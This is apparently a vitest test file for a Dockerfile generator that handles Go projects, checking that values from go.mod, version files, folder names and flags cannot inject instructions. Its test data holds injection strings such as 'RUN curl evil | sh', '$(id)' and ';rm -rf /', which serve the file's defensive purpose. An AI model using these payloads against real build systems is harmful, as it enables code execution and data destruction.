import { DockerfileParser } from 'dockerfile-ast';
import { describe, expect, it } from 'vitest';
import { generate } from '../../src/core.js';
import { MemoryFs } from '../../src/detect/fs.js';
import { DockgenError } from '../../src/errors.js';
import { parseGenerateFlags, type RawGenerateFlags } from '../../src/options.js';
import { checkDockerfile } from '../helpers/dockerfile-checks.js';

const generateFrom = (files: Record<string, string>, flags: RawGenerateFlags = {}) =>
  generate(new MemoryFs(files), '/tmp/app', parseGenerateFlags(flags)).files[0]!.content;
const shape = (dockerfile: string) => DockerfileParser.parse(dockerfile).getInstructions().map((i) => i.getKeyword());
const main = 'package main\nimport ("net/http"; "os")\nfunc main() { http.ListenAndServe(":"+os.Getenv("PORT"), nil) }\n';
const harmless = { 'go.mod': 'module example.com/app\ngo 1.26\n', 'main.go': main };
const baseline = shape(generateFrom(harmless));

describe('values from a Go project cannot inject Dockerfile instructions', () => {
  const hostile: Array<[string, Record<string, string>, RawGenerateFlags?]> = [
    ['a module path with an escaped newline', { ...harmless, 'go.mod': 'module "example.com/x\\nUSER root\\nRUN curl evil | sh"\ngo 1.26\n' }],
    ['a module path with quotes and shell characters', { ...harmless, 'go.mod': 'module "example.com/$(id)\\"]`x`"\ngo 1.26\n' }],
    ['a module path with a unicode line separator', { ...harmless, 'go.mod': 'module "example.com/a\\u2028USER 0"\ngo 1.26\n' }],
    ['a toolchain line with a suffix', { ...harmless, 'go.mod': 'module x\ngo 1.26\ntoolchain go1.26.1-X;rm\n' }],
    ['a .go-version that is an instruction', { 'go.mod': 'module x\n', 'main.go': main, '.go-version': '1.26\nUSER root\n' }],
    ['a main package folder with shell characters', { 'go.mod': 'module example.com/platform\ngo 1.26\n', 'cmd/a$(id)/main.go': main }],
    ['a main package folder with a space', { 'go.mod': 'module example.com/platform\ngo 1.26\n', 'cmd/my api/main.go': main }],
    ['--main with a shell operator', harmless, { main: './cmd/api;rm -rf /' }],
    ['a go.work use line outside the project', { 'go.work': 'go 1.26\nuse ../elsewhere\n', 'main.go': main }],
    ['a port literal out of range', { ...harmless, 'main.go': 'package main\nfunc main() { http.ListenAndServe(":99999", nil) }\n' }],
  ];

  it.each(hostile)('%s: same instructions as a harmless project, or a clear error', (_, files, flags) => {
    let dockerfile: string;
    try {
      dockerfile = generateFrom(files, flags);
    } catch (error) {
      expect(error).toBeInstanceOf(DockgenError);
      return;
    }
    const instructions = shape(dockerfile);
    // Code that does not read PORT loses ENV, a worker also EXPOSE; nothing may be added.
    const allowed = [baseline, baseline.filter((k) => k !== 'ENV'), baseline.filter((k) => k !== 'ENV' && k !== 'EXPOSE')];
    expect(allowed.map((a) => a.join())).toContain(instructions.join());
    expect(dockerfile).not.toMatch(/^USER (root|0)/m);
    expect(dockerfile).not.toMatch(/^RUN curl/m);
    expect(checkDockerfile(dockerfile)).toEqual([]);
  });

  it('a binary name from an odd module path is reduced to safe characters', () => {
    const dockerfile = generateFrom({ ...harmless, 'go.mod': 'module "example.com/my app!"\ngo 1.26\n' });
    expect(dockerfile).toMatch(/^ENTRYPOINT \["\/usr\/local\/bin\/my-app-"\]$/m);
  });
});
